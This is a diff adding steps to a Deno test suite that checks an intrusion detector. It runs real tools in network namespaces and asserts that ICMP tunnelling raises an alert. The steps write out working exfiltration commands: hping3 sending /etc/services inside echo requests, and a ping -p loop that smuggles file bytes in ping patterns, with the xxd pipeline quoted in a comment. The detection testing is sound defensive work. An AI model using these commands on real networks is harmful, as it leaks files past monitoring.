@@ -998,6 +998,81 @@ Deno.test("live attacks: real tools in network namespaces raise their alerts", a
       },
     );
 
+    await t.step(
+      "hping3 -1 -E: a file sent out in echo requests, which the victim's kernel echoes",
+      async () => {
+        // Every reply equals its request; the requests' data changes.
+        const seen = await attack(pair, [
+          "hping3",
+          "-1",
+          "-E",
+          "/etc/services",
+          "-d",
+          "200",
+          "-c",
+          "30",
+          "-i",
+          "u20000",
+          "-q",
+          VICTIM,
+        ], (_success, stderr) => {
+          assert.match(stderr, /30 packets transmitted/);
+        });
+        assertAlert(seen, {
+          kind: "icmp_tunnel",
+          attacker: ATTACKER,
+          victim: VICTIM,
+          technique: "T1095",
+        });
+      },
+    );
+
+    await t.step(
+      "ping -p in a loop: data in pings' patterns, a new ping for each piece",
+      async () => {
+        // 16 bytes a ping, as `xxd -p -c 16 file | while read p; do ping
+        // -c 1 -p $p …` sends them: each ping a new identifier.
+        const patterns = Array.from(
+          { length: 20 },
+          (_, i) => (0x1000 + i * 7919).toString(16).padStart(8, "0"),
+        );
+        const loop = patterns.map((pattern) =>
+          `ping -c 1 -W 1 -p ${pattern} ${VICTIM} >/dev/null`
+        ).join("; ");
+        const seen = await attack(pair, ["sh", "-c", loop]);
+        assertAlert(seen, {
+          kind: "icmp_tunnel",
+          attacker: ATTACKER,
+          victim: VICTIM,
+          technique: "T1095",
+        });
+      },
+    );
+
+    await t.step(
+      "ping: two pings at once, of different sizes and one with a pattern, raise nothing",
+      async () => {
+        const ping = (options: string[]) =>
+          run(pair.attackerNs, [
+            "ping",
+            ...options,
+            "-c",
+            "60",
+            "-i",
+            "0.02",
+            VICTIM,
+          ]);
+        const seen = await capture(pair, async () => {
+          await Promise.all([
+            ping([]),
+            ping(["-s", "1200", "-p", "c0ffee"]),
+          ]);
+        });
+        assert.deepEqual(seen.alerts, []);
+        assert.ok(seen.icmpv4 >= 240, `${seen.icmpv4} ICMP packets`);
+      },
+    );
+
     // The last two steps share a web server on the victim and a
     // configuration in which only the attacker is home (so the victim is an
     // outside host) and 2 MB a window is data exfiltration.
